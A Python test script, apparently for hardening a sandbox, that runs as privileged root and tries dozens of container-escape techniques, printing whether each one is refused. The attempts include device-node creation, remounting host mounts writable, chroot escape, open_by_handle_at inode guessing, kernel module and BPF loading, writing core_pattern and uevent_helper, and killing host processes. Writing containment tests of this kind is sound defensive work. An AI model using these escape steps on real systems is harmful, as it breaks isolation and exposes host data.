"""Root in a sandbox, with every capability there, that wants to get out. Prints what came of each attempt."""

import ctypes, errno, fcntl, glob, json, os, socket, stat, struct, sys

told = json.loads(sys.argv[1])
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
MOUNT_SETATTR, OPEN_TREE, MOVE_MOUNT = 442, 428, 429
RDONLY, REMOUNT, BIND, DETACH, NEWNS, NEWUSER = 1, 32, 4096, 2, 0x20000, 0x10000000
attempts = []


def attempt(name, act):
    """`act` returns what it got, or nothing; whatever it raises is a refusal."""
    try:
        got = act()
    except (OSError, ValueError) as error:
        got, why = None, str(error)
    else:
        why = ""
    attempts.append({"attempt": name, "outcome": "refused" if got is None else "got: %r" % (got,), "why": why})


def call(number, *arguments):
    made = [
        ctypes.c_char_p(a) if isinstance(a, bytes) else ctypes.c_long(a) if isinstance(a, int) else a for a in arguments
    ]
    result = libc.syscall(ctypes.c_long(number), *made)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def mount(source, at, kind=None, flags=0, options=None):
    encode = lambda text: None if text is None else text.encode()
    if libc.mount(encode(source), encode(at), encode(kind), ctypes.c_ulong(flags), encode(options)):
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def in_child(act):
    """What `act` got in a process of its own, whose namespaces and root go with it."""
    reads, writes = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            got = act()
        except (OSError, ValueError) as error:
            got = None
            os.write(writes, b"!" + str(error).encode()[:1000])
        if got is not None:
            os.write(writes, repr(got).encode()[:1000])
        os._exit(0)
    os.close(writes)
    text = os.read(reads, 2000)
    os.close(reads)
    os.waitpid(child, 0)
    if text.startswith(b"!"):
        raise OSError(errno.EPERM, text[1:].decode())
    return text.decode() or None


def place(name):
    path = "/tmp/attack-" + name
    os.makedirs(path, exist_ok=True)
    return path


def writes(directory):
    path = os.path.join(directory, "written-by-the-sandbox")
    with open(path, "w") as file:
        file.write("x")
    os.unlink(path)
    return path


# It has what it is given, or the rest proves nothing.
assert os.getuid() == 0, os.getuid()
rights = dict(line.split(":\t") for line in open("/proc/self/status").read().splitlines() if ":\t" in line)
assert int(rights["CapEff"], 16) & 1 << 21, rights["CapEff"]
if told["filter"]:
    assert libc.prctl(38, 1, 0, 0, 0) == 0
    program = bytes.fromhex(told["filter"])
    room = ctypes.create_string_buffer(program, len(program))
    fprog = struct.pack("HxxxxxxQ", len(program) // 8, ctypes.addressof(room))
    assert libc.prctl(22, 2, fprog, 0, 0) == 0, os.strerror(ctypes.get_errno())


# Devices.
def device(kind, major, minor, at):
    path = os.path.join(at, "device")
    os.mknod(path, kind | 0o666, os.makedev(major, minor))
    try:
        return os.open(path, os.O_RDWR | os.O_NONBLOCK)
    finally:
        os.unlink(path)


own = place("own")
try:
    mount("tmpfs", own, "tmpfs")
except OSError:
    pass
devices = {
    "disk": (stat.S_IFBLK, *told["disk"]),
    "mem": (stat.S_IFCHR, 1, 1),
    "port": (stat.S_IFCHR, 1, 4),
    "kmsg": (stat.S_IFCHR, 1, 11),
    "tty": (stat.S_IFCHR, 4, 0),
    "fuse": (stat.S_IFCHR, 10, 229),
    "kvm": (stat.S_IFCHR, 10, 232),
    "tun": (stat.S_IFCHR, 10, 200),
    "loop": (stat.S_IFCHR, 10, 237),
}
for name, (kind, major, minor) in devices.items():
    for at in ["/tmp", "/dev/shm", own, "/dev"]:
        attempt(f"device {name} in {at}", lambda: device(kind, major, minor, at))
is_device = lambda entry: stat.S_IFMT(entry.stat(follow_symlinks=False).st_mode) in (stat.S_IFCHR, stat.S_IFBLK)
devices = {entry.name for entry in os.scandir("/dev") if is_device(entry)}
assert devices >= {"null", "zero"}, devices
attempt("another device in /dev", lambda: devices - {"null", "zero", "full", "random", "urandom", "tty"} or None)


# Mounts of the host's.
def writable(at):
    mount(None, at, None, REMOUNT | BIND)
    return writes(at)


def set_attributes(at):
    call(MOUNT_SETATTR, -100, at.encode(), 0, struct.pack("QQQQ", 0, RDONLY, 0, 0), 32)
    return writes(at)


def bound(at):
    to = place("bound")
    mount(at, to, None, BIND)
    mount(None, to, None, REMOUNT | BIND)
    return writes(to)


def moved(at):
    tree = call(OPEN_TREE, -100, at.encode(), 1 | 0o2000000)
    call(MOUNT_SETATTR, tree, b"", 0x1000, struct.pack("QQQQ", 0, RDONLY, 0, 0), 32)
    return writes(f"/proc/self/fd/{tree}")


def nested(act, at):
    def inside():
        if libc.unshare(NEWUSER | NEWNS):
            raise OSError(ctypes.get_errno(), "unshare")
        return act(at)

    return in_child(inside)


for at in ["/", "/app", "/dev"]:
    for act in [writable, set_attributes, bound, moved]:
        attempt(f"{act.__name__} {at}", lambda: act(at))
        attempt(f"{act.__name__} {at} from another user namespace", lambda: nested(act, at))


def beneath(at):
    """Whatever was covered: what is the host's, and is seen now."""
    before = os.stat(at)
    if libc.umount2(at.encode(), DETACH):
        raise OSError(ctypes.get_errno(), "umount")
    after = os.stat(at)
    # An empty mount point of the runtime's is no find.
    return None if not os.path.isdir(at) or not os.listdir(at) else (at, before.st_dev, after.st_dev)


def beneath_root():
    if libc.unshare(NEWNS):
        raise OSError(ctypes.get_errno(), "unshare")
    libc.umount2(b"/", DETACH)
    return seen("/")


def seen(root):
    """The host's file from this directory, or any above it."""
    for _ in range(40):
        try:
            return open(root + told["marker"]).read()
        except OSError:
            root += "/.."
    return None


for at in ["/app", "/dev"]:
    attempt(f"beneath {at}", lambda: nested(beneath, at))
attempt("beneath the root", lambda: in_child(beneath_root))
for kind in [
    "devtmpfs",
    "debugfs",
    "tracefs",
    "securityfs",
    "bpf",
    "configfs",
    "cgroup",
    "pstore",
    "efivarfs",
    "ext4",
    "xfs",
]:
    attempt(f"mount {kind}", lambda: (mount("/dev/vda" if kind in ("ext4", "xfs") else kind, place("fs"), kind), kind))


def control_groups():
    at = place("cgroup2")
    mount("cgroup2", at, "cgroup2")
    os.mkdir(at + "/of-the-sandbox")
    return "made a group"


attempt("control groups", control_groups)


def limit_of_its_own(file):
    """Another limit, in a control group that it sees at /sys/fs/cgroup."""
    at = os.path.dirname(file)
    mount("none", at, None, BIND | REMOUNT)
    with open(file, "w") as limit:
        limit.write("max")
    return file


limits = glob.glob("/sys/fs/cgroup/cpu*/cpu.cfs_quota_us") + glob.glob("/sys/fs/cgroup/cpu.max")
assert limits, os.listdir("/sys/fs/cgroup")
for file in limits:
    attempt(f"change {file}", lambda: limit_of_its_own(file))
    attempt(
        f"join {os.path.dirname(file)}",
        lambda: open(os.path.dirname(file) + "/cgroup.procs", "w").write("0") and None or "joined",
    )


def chroot_and_out():
    os.chroot(place("chroot"))
    for _ in range(40):
        os.chdir("..")
    os.chroot(".")
    return seen("")


attempt("the host's file by its path", lambda: seen(""))
attempt("out of a chroot", lambda: in_child(chroot_and_out))
attempt("by init's root", lambda: seen("/proc/1/root"))
attempt("by init's directory", lambda: seen("/proc/1/cwd"))
for link in glob.glob("/proc/[0-9]*/fd/*"):
    attempt("by " + link.replace(str(os.getpid()), "own"), lambda: seen(link))
    if os.path.isdir(link):
        attempt("write by " + link, lambda: writes(link))


def by_handle(at):
    handle = bytearray(struct.pack("Ii", 128, 0) + bytes(128))
    room = (ctypes.c_char * len(handle)).from_buffer(handle)
    number = ctypes.c_int()
    call(303, -100, at.encode(), room, ctypes.byref(number), 0)
    directory = os.open(at, os.O_RDONLY)
    # The second inode of most file systems is their root.
    for first in [None, 2, 128, 256]:
        if first:
            struct.pack_into("I", handle, 8, first)
        try:
            return call(304, directory, room, os.O_RDONLY)
        except OSError as error:
            last = error
    raise last


for at in ["/", "/app"]:
    attempt(f"open {at} by handle", lambda: by_handle(at))

# The kernel.
attempt("load a module", lambda: call(175, b"\x7fELF", 4, b""))
attempt("load a module of a file", lambda: call(313, os.open("/usr/bin/python3", os.O_RDONLY), b"", 0))
attempt("remove a module", lambda: call(176, b"ext4", 0o4000))
attempt("load a kernel", lambda: call(246, 0, 0, 0, 0))
attempt("ports", lambda: call(172, 3))
attempt("some ports", lambda: call(173, 0x80, 1, 1))
attempt("clear the kernel's log", lambda: call(103, 5, 0, 0))
attempt("set the clock", lambda: call(227, 0, struct.pack("qq", 0, 0)))
attempt("adjust the clock", lambda: call(159, struct.pack("I", 1) + bytes(204)))
attempt("swap", lambda: call(167, b"/tmp/attack-own/swap", 0))
attempt("account", lambda: call(163, b"/tmp/account"))
attempt(
    "a program in the kernel",
    lambda: call(
        321,
        5,
        struct.pack(
            "IIQQ",
            15,
            2,
            ctypes.addressof(ctypes.create_string_buffer(bytes.fromhex("b7000000010000009500000000000000"))),
            ctypes.addressof(ctypes.create_string_buffer(b"GPL")),
        )
        + bytes(96),
        120,
    ),
)
attempt(
    "look at all processes", lambda: call(298, struct.pack("IIQQQQQ", 0, 112, 0, 0, 0, 0, 0) + bytes(64), -1, 0, -1, 0)
)


def priority():
    os.setpriority(os.PRIO_PROCESS, 0, -5)
    return os.getpriority(os.PRIO_PROCESS, 0)


attempt("a higher priority", priority)
attempt("real time", lambda: (os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)), "real time"))

# Settings: of a fresh /proc, which nothing is laid over.
proc = place("proc")
attempt("a fresh proc", lambda: mount("proc", proc, "proc"))
for name in [
    "kernel/core_pattern",
    "kernel/modprobe",
    "kernel/hotplug",
    "kernel/sysrq",
    "kernel/panic",
    "kernel/randomize_va_space",
    "kernel/kptr_restrict",
    "kernel/dmesg_restrict",
    "kernel/unprivileged_bpf_disabled",
    "kernel/threads-max",
    "kernel/yama/ptrace_scope",
    "vm/overcommit_memory",
    "vm/drop_caches",
    "vm/mmap_min_addr",
    "vm/swappiness",
    "fs/file-max",
    "fs/suid_dumpable",
    "fs/protected_symlinks",
    "net/core/bpf_jit_enable",
]:
    for root in ["/proc/sys", proc + "/sys"]:
        attempt(f"set {root}/{name}", lambda: open(f"{root}/{name}", "w").write("1"))
for name in ["sysrq-trigger", "kcore", "kmsg", "mtrr", "acpi/wakeup", "irq/0/smp_affinity"]:
    attempt(f"open {name}", lambda: os.open(f"{proc}/{name}", os.O_RDWR | os.O_NONBLOCK))
    attempt(
        f"read {name}",
        lambda: (
            None
            if name in ("mtrr", "acpi/wakeup", "irq/0/smp_affinity")
            else os.read(os.open(f"{proc}/{name}", os.O_RDONLY | os.O_NONBLOCK), 64)
        ),
    )
sys_at = place("sys")
attempt("sysfs", lambda: mount("sysfs", sys_at, "sysfs"))
for name in [
    "power/state",
    "kernel/uevent_helper",
    "kernel/mm/transparent_hugepage/enabled",
    "kernel/uevent_seqnum",
    "bus/pci/rescan",
    "devices/system/cpu/cpu1/online",
    "module/printk/parameters/time",
]:
    attempt(f"write {name}", lambda: os.open(f"{sys_at}/{name}", os.O_WRONLY))

# Processes.
listed = lambda root: sorted(int(pid) for pid in os.listdir(root) if pid.isdigit())
own_ids = {1, os.getpid(), os.getppid()}
strange = lambda root: [
    p
    for p in listed(root)
    if p not in own_ids
    and int(open(f"{root}/{p}/stat").read().rsplit(")")[1].split()[1]) == 0
    and p != 1
    and open(f"{root}/{p}/comm").read().strip() not in ("python3", "timeout", "nsenter")
]
attempt("processes of others", lambda: strange("/proc") or None)
attempt("signal a process of the host", lambda: (os.kill(told["stranger"], 9), "killed"))
attempt("a handle of a process of the host", lambda: os.pidfd_open(told["stranger"]))


# The network.
def reach(address, port):
    with socket.create_connection((address, port), timeout=0.3) as sock:
        return sock.getpeername()


for port in told["ports"]:
    for address in ["127.0.0.1"] + told["addresses"]:
        attempt(f"{address}:{port}", lambda: reach(address, port))
for address in told["addresses"]:
    attempt(f"the other at {address}", lambda: reach(address, 9123))
for at in ["/tmp/secret", "/dev/shm/secret"]:
    attempt(f"the other's {at}", lambda: open(at).read())
print(json.dumps(attempts))
